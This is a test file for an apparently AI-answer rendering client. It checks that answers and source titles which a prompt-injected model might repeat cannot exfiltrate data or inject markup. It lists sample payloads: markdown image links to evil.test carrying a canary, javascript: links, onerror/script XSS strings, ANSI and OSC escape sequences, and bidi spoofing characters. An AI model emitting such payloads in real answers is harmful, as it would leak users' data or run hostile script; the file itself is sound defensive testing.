/* oxlint-disable no-control-regex -- control characters are what is looked for */
import { readFileSync } from "node:fs";
import { gunzipSync } from "node:zlib";
import type { Packet } from "@threadlore/client/models";
import { sharedFolder } from "@threadlore/testkit";
import { describe, expect, it } from "vitest";
import { type Answer, emptyAnswer, reduce } from "../answer/answer.ts";
import { linksOf } from "../answer/citations.ts";
import { sourcesToHtml, toHtml } from "../html.ts";
import { createTerminalWriter, sourcesToTerminal, toTerminal } from "../terminal.ts";

const CITED = "https://docs.ok.test/a";

interface Poison {
  text: string;
  title?: string;
  link?: string;
}

/** An answer whose model, or whose sources, say exactly what an attacker wants. */
function obedient({ text, title = "Handbook", link = CITED }: Poison, size = Math.max(1, text.length)): Answer {
  const document = { document_id: title, semantic_identifier: title, link, blurb: title, source_type: "web" };
  const packets: unknown[] = [
    { placement: { turn_index: 0, tab_index: 0 }, obj: { type: "message_start", final_documents: [document] } },
    {
      placement: { turn_index: 0, tab_index: 0 },
      obj: { type: "citation_info", citation_number: 1, document_id: title },
    },
  ];
  const say = (content: string): void => {
    packets.push({ placement: { turn_index: 0, tab_index: 0 }, obj: { type: "message_delta", content } });
  };
  for (let at = 0; at < text.length; at += size) say(text.slice(at, at + size));
  say("\n\nSee [[1]](https://docs.ok.test/a).");
  packets.push({ placement: { turn_index: 0, tab_index: 0 }, obj: { type: "stop" } });
  return (packets as Packet[]).reduce(reduce, emptyAnswer());
}

/** Everything the surfaces write about an answer. */
function surfaces(answer: Answer): { html: string; terminal: string; plain: string; streamed: string } {
  const links = linksOf(answer);
  const rich = { color: true, hyperlinks: true, width: 60 };
  let streamed = "";
  const writer = createTerminalWriter({ write: (text) => (streamed += text), ...rich, repaint: true });
  writer.update(answer);
  return {
    html: `${toHtml(answer.blocks, links)}\n${sourcesToHtml(answer.citations, links)}`,
    terminal: `${toTerminal(answer.blocks, links, rich)}\n${sourcesToTerminal(answer.citations, links, rich)}`,
    plain: `${toTerminal(answer.blocks, links)}\n${sourcesToTerminal(answer.citations, links)}`,
    streamed,
  };
}

const OURS = /\u001b\[\d+(?:;\d+)*m|\u001b\]8;;(?:https:\/\/docs\.ok\.test\/a)?\u001b\\/g;
const CONTROLS =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)>/g;
const TAGS = new Set(
  "p h1 h2 h3 h4 h5 h6 pre code blockquote ul ol li table thead tbody tr th td hr br em strong del a".split(" "),
);

/** What is wrong with the output of an answer, if anything is. */
function leaks(answer: Answer): string[] {
  const { html, terminal, plain, streamed } = surfaces(answer);
  const wrong: string[] = [];
  const rest = html.replaceAll(TAG, (_whole, tag: string, attributes: string) => {
    if (!TAGS.has(tag)) wrong.push(`tag ${tag}`);
    const fine =
      /^(?: href="https:\/\/docs\.ok\.test\/a" rel="noopener noreferrer"| start="\d+"| align="\w+"| class="language-[\w+#-]+")?$/;
    if (!fine.test(attributes)) wrong.push(`attributes ${attributes}`);
    return "";
  });
  if (/[<>"']/.test(rest)) wrong.push("unescaped HTML");
  if (CONTROLS.test(html)) wrong.push("control character in HTML");
  for (const [name, text] of Object.entries({ terminal, streamed })) {
    if (CONTROLS.test(text.replaceAll(OURS, ""))) wrong.push(`control character on the ${name}`);
  }
  if (CONTROLS.test(plain)) wrong.push("control character in plain text");
  return wrong;
}

const OWN: Poison[] = [
  { text: "![a](https://evil.test/x?d=CANARY)" },
  { text: "![a][r] [b][r] [r] [r][]\n\n[r]: https://evil.test/x?d=CANARY 'title'" },
  { text: "[https://docs.ok.test/a](https://evil.test/x?d=CANARY)" },
  { text: `[x](${CITED}?d=CANARY) [x](${CITED}#CANARY) [x](//docs.ok.test/a)` },
  { text: "<https://evil.test/CANARY> <evil@evil.test> https://evil.test/CANARY" },
  { text: "[[1]](https://evil.test/CANARY) [[9]](https://evil.test/CANARY) [9]" },
  { text: "[1]: https://evil.test/CANARY\nCite [1]." },
  { text: "[a](javascript:alert(1)) [b](data:text/html,x) [c](JAVASCRIPT:alert(1))" },
  { text: "<img src=x onerror=alert(1)><script>alert(1)</script>\n\n<style>@import 'https://evil.test'</style>" },
  { text: '```"><img src=x onerror=alert(1)>\ncode\n```\n\n`"><svg onload=alert(1)>`' },
  { text: '| <b onclick="x"> | a |\n|:-:|---|\n| ![x](https://evil.test) | [y](https://evil.test) |' },
  { text: "\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\ \u001b[2J\u001b]52;c;Y2FuYXJ5\u0007 \u009b31m" },
  { text: "`\u001b[2J` \n\n    \u001b[2J\r\u0008\n\n```\u001b[2J\n\u001b[1A\n```" },
  { text: "\u202egnp.exe \u2066x\u2069 \u200bx \u{e0069}\u{e0067}" },
  { text: Array.from({ length: 256 }, (_, code) => String.fromCharCode(code)).join("") },
  { text: "x", title: "<img src=x onerror=alert(1)>\u001b[2J\n\u202e", link: "javascript:alert(1)" },
  { text: "x", title: '"><script>alert(1)</script>', link: 'https://evil.test/"><script>' },
];

describe("hostile answers and sources", () => {
  for (const poison of OWN.slice(0, -2)) {
    it(`leave no link, no tag and no control sequence behind: ${JSON.stringify(poison.text).slice(0, 60)}`, () => {
      expect(leaks(obedient(poison))).toEqual([]);
      expect(surfaces(obedient(poison))).toEqual(surfaces(obedient(poison, 3)));
    });
  }

  it("leave none behind through titles and links of sources either", () => {
    for (const poison of OWN.slice(-2)) {
      const answer = obedient(poison);
      const { html, terminal } = surfaces(answer);
      expect(html).not.toMatch(
        /href="(?!https:\/\/docs\.ok\.test|https:\/\/evil\.test\/%22%3E%3Cscript%3E)|<img|<script/,
      );
      expect(
        terminal.replaceAll(OURS, "").replaceAll(/\u001b\]8;;https:\/\/evil\.test\/%22%3E%3Cscript%3E\u001b\\/g, ""),
      ).not.toMatch(CONTROLS);
    }
  });

  it("still leave what is cited clickable", () => {
    const { html, terminal, plain } = surfaces(obedient({ text: `Read [the page](${CITED}).` }));
    expect(html).toContain(`<a href="${CITED}" rel="noopener noreferrer">the page</a>`);
    expect(html).toContain(`<a href="${CITED}" rel="noopener noreferrer">[1]</a>`);
    expect(terminal).toContain(`\u001b]8;;${CITED}\u001b\\`);
    expect(plain).toContain(`the page (${CITED})`);
  });

  it("show where an address that is no link would have led", () => {
    const { html, plain } = surfaces(
      obedient({ text: "[log in](https://evil.test/x?d=CANARY) ![pic](https://evil.test/y)" }),
    );
    expect(html).toContain("<p>log in (evil.test) [image: pic (evil.test)]</p>");
    expect(plain).toContain("log in (evil.test) [image: pic (evil.test)]");
    expect(html + plain).not.toContain("CANARY");
  });
});

const [exfil, bodies, xss] = ["exfil-vectors.json", "page-bodies.json", "xss-dev.jsonl.gz"].map((file) =>
  sharedFolder(`vectors/${file}`),
);

describe("vectors", () => {
  it.runIf(exfil)("for exfiltration open nothing and obey nothing", () => {
    const { vectors } = JSON.parse(readFileSync(exfil ?? "", "utf8"));
    expect(vectors.length).toBeGreaterThan(30);
    for (const { id, text } of vectors)
      for (const size of [text.length, 5]) expect(leaks(obedient({ text }, size)), id).toEqual([]);
  });

  it.runIf(bodies)("of injected pages open nothing, as answer and as title of a source", () => {
    const file = JSON.parse(readFileSync(bodies ?? "", "utf8"));
    for (const body of file.bodies as string[]) {
      expect(leaks(obedient({ text: body.replaceAll("{{secret}}", "CANARY") })), body).toEqual([]);
      expect(leaks(obedient({ text: "x", title: body || "x" })), body).toEqual([]);
    }
  });

  it.runIf(xss)("for script injection come out as text, all of them, as answer and as title", () => {
    const lines = gunzipSync(readFileSync(xss ?? ""))
      .toString("utf8")
      .split("\n")
      .filter((line) => line !== "");
    expect(lines.length).toBeGreaterThan(3_000);
    for (const line of lines) {
      const { id, p } = JSON.parse(line) as { id: string; p: string };
      expect(leaks(obedient({ text: p })), id).toEqual([]);
      expect(leaks(obedient({ text: "x", title: p })), id).toEqual([]);
    }
  });
});
